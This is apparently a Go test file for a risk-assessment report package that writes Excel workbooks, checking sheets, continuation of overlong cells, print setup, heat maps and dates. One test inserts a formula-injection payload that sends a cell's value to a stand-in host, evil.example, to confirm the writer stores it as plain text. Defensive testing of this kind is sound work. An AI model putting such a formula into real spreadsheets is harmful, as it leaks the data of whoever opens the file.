package report

import (
	"archive/zip"
	"bytes"
	"io"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// openWorkbook writes m and opens the result again.
func openWorkbook(t testing.TB, m *Model) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteWorkbook(&buf, m); err != nil {
		t.Fatalf("WriteWorkbook: %v", err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("open the workbook again: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

// sheetXML is the XML of a worksheet, read from the package itself.
func sheetXML(t *testing.T, pkg []byte, f *excelize.File, sheet string) string {
	t.Helper()
	idx, err := f.GetSheetIndex(sheet)
	if err != nil || idx < 0 {
		t.Fatalf("GetSheetIndex(%q) = %d, %v", sheet, idx, err)
	}
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	// excelize names worksheet parts sheetN.xml in creation order.
	name := "xl/worksheets/sheet" + itoa(idx+1) + ".xml"
	for _, zf := range zr.File {
		if zf.Name == name {
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, err := io.ReadAll(rc)
			rc.Close()
			if err != nil {
				t.Fatal(err)
			}
			return string(b)
		}
	}
	t.Fatalf("no part %s", name)
	return ""
}

func itoa(n int) string { return strconv.Itoa(n) }

func TestWorkbookSheets(t *testing.T) {
	m := sampleModel()
	f, _ := openWorkbook(t, m)
	want := []string{SheetMethod, SheetInherent, SheetCurrent, SheetRegister, SheetPlan, SheetDecisions, SheetResponses, SheetInventory, SheetFlows}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("GetSheetList() = %q, want %q", got, want)
	}
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("GetActiveSheetIndex() = %d, want 0 (Method)", got)
	}
	rows := map[string]int{
		SheetRegister: len(m.Risks), SheetPlan: len(m.Tasks), SheetDecisions: len(m.Decisions),
		SheetResponses: len(m.Entries), SheetInventory: len(m.Assets), SheetFlows: len(m.Flows),
	}
	for sheet, n := range rows {
		got, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != n+1 {
			t.Errorf("rows of %s = %d, want %d (a header and one per item)", sheet, len(got), n+1)
		}
	}
}

// cellOf finds the column of header head on sheet and returns the value
// of that column in data row i (0-based).
func cellOf(t *testing.T, f *excelize.File, sheet, head string, i int) string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(rows[0], head)
	if col < 0 {
		t.Fatalf("%s has no column %q: %q", sheet, head, rows[0])
	}
	if i+1 >= len(rows) || col >= len(rows[i+1]) {
		return ""
	}
	return rows[i+1][col]
}

func TestWorkbookTextWhole(t *testing.T) {
	m := sampleModel()
	f, _ := openWorkbook(t, m)
	if got := cellOf(t, f, SheetDecisions, "Rationale", 1); got != longJustification {
		t.Errorf("the long rationale: got %d characters ending %q, want %d", len(got), got[max(0, len(got)-20):], len(longJustification))
	}
	for i, d := range m.Decisions {
		for _, fc := range d.Factors {
			if got := cellOf(t, f, SheetDecisions, fc.Label, i); got != fc.Text {
				t.Errorf("decision %s, factor %q = %q, want %q", d.Citation, fc.Label, got, fc.Text)
			}
		}
	}
	if got := cellOf(t, f, SheetRegister, "Party", 2); got != m.Risks[2].Party {
		t.Errorf("Party of risk 5 = %q, want %q", got, m.Risks[2].Party)
	}
	if got := cellOf(t, f, SheetRegister, "Acceptance reason", 1); got != m.Risks[1].Acceptance.Reason {
		t.Errorf("acceptance reason = %q, want %q", got, m.Risks[1].Acceptance.Reason)
	}
}

// TestWorkbookOverlongCell: text longer than Excel's 32,767 characters
// carries on in extra columns, and the cells say so.
func TestWorkbookOverlongCell(t *testing.T) {
	m := sampleModel()
	long := longText(80000) + " 😀" // a character of two UTF-16 units
	m.Entries[0].Narrative = long
	f, _ := openWorkbook(t, m)
	rows, err := f.GetRows(SheetResponses)
	if err != nil {
		t.Fatal(err)
	}
	head := rows[0]
	col := slices.Index(head, "Narrative")
	first := rows[1][col]
	mark := regexp.MustCompile(` \[continued in column ([A-Z]+)\]$`)
	from := regexp.MustCompile(`^\[continued from column ([A-Z]+)\] `)
	var got strings.Builder
	cell := first
	hops := 0
	for {
		mm := mark.FindStringSubmatch(cell)
		if mm == nil {
			got.WriteString(cell)
			break
		}
		got.WriteString(strings.TrimSuffix(cell, mm[0]))
		n, err := excelize.ColumnNameToNumber(mm[1])
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(head[n-1], "Continued text") {
			t.Errorf("column %s is headed %q, want Continued text", mm[1], head[n-1])
		}
		next := rows[1][n-1]
		fm := from.FindStringSubmatch(next)
		if fm == nil {
			t.Fatalf("column %s does not say where it continues from: %.40q", mm[1], next)
		}
		cell = strings.TrimPrefix(next, fm[0])
		hops++
	}
	if hops != 2 {
		t.Errorf("80,000 characters took %d continuation cells, want 2", hops)
	}
	if got.String() != long {
		t.Errorf("the narrative came back with %d bytes, want %d", got.Len(), len(long))
	}
	for i, c := range rows[1] {
		if n := len(c); n > excelize.TotalCellChars {
			t.Errorf("cell %d holds %d characters, more than Excel keeps", i, n)
		}
	}
}

func TestWorkbookFormulaLikeTextIsText(t *testing.T) {
	m := sampleModel()
	m.Risks[0].Title = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	m.Assets[0].Notes = "+1-555-0100"
	m.Tasks[0].Title = "@SUM(1,2)"
	m.Flows[0].Description = "-2+3 and a control \x01 character"
	f, _ := openWorkbook(t, m)
	if got, want := cellOf(t, f, SheetFlows, "Description", 0), "-2+3 and a control \uFFFD character"; got != want {
		t.Errorf("flow description = %q, want %q", got, want)
	}
	for _, c := range []struct{ sheet, head string }{{SheetRegister, "Risk"}, {SheetInventory, "Notes"}, {SheetPlan, "Title"}} {
		rows, _ := f.GetRows(c.sheet)
		col := slices.Index(rows[0], c.head)
		cell, _ := excelize.CoordinatesToCellName(col+1, 2)
		formula, err := f.GetCellFormula(c.sheet, cell)
		if err != nil || formula != "" {
			t.Errorf("GetCellFormula(%s!%s) = %q, %v, want no formula", c.sheet, cell, formula, err)
		}
		typ, _ := f.GetCellType(c.sheet, cell)
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("GetCellType(%s!%s) = %v, want a string", c.sheet, cell, typ)
		}
	}
	if got := cellOf(t, f, SheetRegister, "Risk", 0); got != m.Risks[0].Title {
		t.Errorf("risk title = %q, want %q", got, m.Risks[0].Title)
	}
}

func TestWorkbookTableSheets(t *testing.T) {
	m := sampleModel()
	f, pkg := openWorkbook(t, m)
	names := f.GetDefinedName()
	for _, sheet := range []string{SheetRegister, SheetPlan, SheetDecisions, SheetResponses, SheetInventory, SheetFlows} {
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("GetPanes(%s) = %+v, %v, want the header row frozen", sheet, p, err)
		}
		x := sheetXML(t, pkg, f, sheet)
		if !regexp.MustCompile(`<autoFilter ref="\$?A\$?1:\$?[A-Z]+\$?\d+"`).MatchString(x) {
			t.Errorf("%s has no autofilter", sheet)
		}
		for _, want := range []string{`orientation="landscape"`, `fitToWidth="1"`, `fitToHeight="0"`, "Page &amp;P of &amp;N", "Riverside Family Practice"} {
			if !strings.Contains(x, want) {
				t.Errorf("%s print setup lacks %s", sheet, want)
			}
		}
		if !strings.Contains(x, `fitToPage="1"`) && !strings.Contains(x, `fitToPage="true"`) {
			t.Errorf("%s does not fit to a page", sheet)
		}
		var filter, titles bool
		for _, d := range names {
			if d.Scope == sheet && d.Name == "_xlnm._FilterDatabase" {
				filter = true
			}
			if d.Scope == sheet && d.Name == "_xlnm.Print_Titles" && strings.HasSuffix(d.RefersTo, "!$1:$1") {
				titles = true
			}
		}
		if !filter || !titles {
			t.Errorf("%s: filter range named %v, print titles %v; want both", sheet, filter, titles)
		}
		st, err := f.GetCellStyle(sheet, "A1")
		if err != nil {
			t.Fatal(err)
		}
		if s, _ := f.GetStyle(st); s == nil || s.Font == nil || !s.Font.Bold {
			t.Errorf("%s!A1 is not bold", sheet)
		}
	}
	// A date is a real date, shown as a day in the organisation's zone.
	cell := "AD2" // Identified
	if h, _ := f.GetCellValue(SheetRegister, "AD1"); h != "Identified" {
		t.Fatalf("Register!AD1 = %q, want Identified", h)
	}
	raw, _ := f.GetCellValue(SheetRegister, cell, excelize.Options{RawCellValue: true})
	shown, _ := f.GetCellValue(SheetRegister, cell)
	// 2026-09-05T00:00Z is a calendar date: 5 Sep wherever the
	// organisation is (Model.Local).
	if raw != "46270" || shown != m.Date(m.Risks[0].Identified) {
		t.Errorf("Register!%s = %q shown as %q, want an Excel date shown as %s", cell, raw, shown, m.Date(m.Risks[0].Identified))
	}
}

func TestWorkbookMatrices(t *testing.T) {
	m := sampleModel()
	f, _ := openWorkbook(t, m)
	for _, c := range []struct {
		sheet string
		h     HeatMap
	}{{SheetInherent, m.Inherent}, {SheetCurrent, m.Current}} {
		nl := len(m.Scale.Likelihood)
		for l := 1; l <= nl; l++ {
			row := 4 + nl - l
			if got, _ := f.GetCellValue(c.sheet, "A"+itoa(row)); got != m.Scale.Likelihood[l-1].Label {
				t.Errorf("%s!A%d = %q, want %q", c.sheet, row, got, m.Scale.Likelihood[l-1].Label)
			}
			for i := 1; i <= len(m.Scale.Impact); i++ {
				cell, _ := excelize.CoordinatesToCellName(i+1, row)
				got, _ := f.GetCellValue(c.sheet, cell)
				if want := itoa(c.h.Counts[l-1][i-1]); got != want {
					t.Errorf("%s!%s (likelihood %d, impact %d) = %q, want %s", c.sheet, cell, l, i, got, want)
				}
				st, _ := f.GetCellStyle(c.sheet, cell)
				s, _ := f.GetStyle(st)
				want := m.Scale.Levels[m.Scale.Matrix[l-1][i-1]].Colour
				if s == nil || len(s.Fill.Color) == 0 || !strings.EqualFold(strings.TrimPrefix(s.Fill.Color[0], "#"), strings.TrimPrefix(want, "#")) {
					t.Errorf("%s!%s fill = %+v, want %s", c.sheet, cell, s.Fill, want)
				}
			}
		}
	}
	if got, _ := f.GetCellValue(SheetCurrent, "B8"); got != "1" {
		t.Errorf("Current matrix: not rated = %q, want 1", got)
	}
}

func TestWorkbookMethod(t *testing.T) {
	m := sampleModel()
	m.Draft = true
	f, _ := openWorkbook(t, m)
	rows, err := f.GetRows(SheetMethod)
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for _, r := range rows {
		all.WriteString(strings.Join(r, "|") + "\n")
	}
	text := all.String()
	for _, want := range []string{"DRAFT", "Riverside Family Practice", "Maria Lopez", m.Assessment.Attestation, m.Analysis.Scope,
		"1 Sep 2026 – 21 Nov 2026", m.Scale.Likelihood[2].Meaning, m.Scale.Impact[0].Meaning, "Critical", m.Audit.Root} {
		if !strings.Contains(text, want) {
			t.Errorf("Method sheet lacks %q", want)
		}
	}
	x, _ := f.GetHeaderFooter(SheetRegister)
	if x == nil || !strings.Contains(x.OddHeader, "DRAFT") {
		t.Errorf("the Register's header %+v does not say DRAFT", x)
	}
}

// TestOfficeEmptyModel: a model with nothing in it still makes both files.
func TestOfficeEmptyModel(t *testing.T) {
	for _, part := range []Part{PartFull, PartSummary, PartAsset} {
		m := &Model{Part: part}
		var buf bytes.Buffer
		if err := WriteWorkbook(&buf, m); err != nil {
			t.Errorf("WriteWorkbook(empty %s) = %v", part, err)
		}
		buf.Reset()
		if err := WriteDOCX(&buf, m); err != nil {
			t.Errorf("WriteDOCX(empty %s) = %v", part, err)
		}
	}
}

func BenchmarkWorkbook(b *testing.B) {
	m := officeLargeModel(10000, 20000)
	base := officeBaseline(b, m)
	b.ReportAllocs()
	b.ResetTimer()
	var n int
	for b.Loop() {
		var buf bytes.Buffer
		if err := WriteWorkbook(&buf, m); err != nil {
			b.Fatal(err)
		}
		n = buf.Len()
	}
	b.ReportMetric(float64(n), "bytes/file")
	reportRatio(b, base)
}
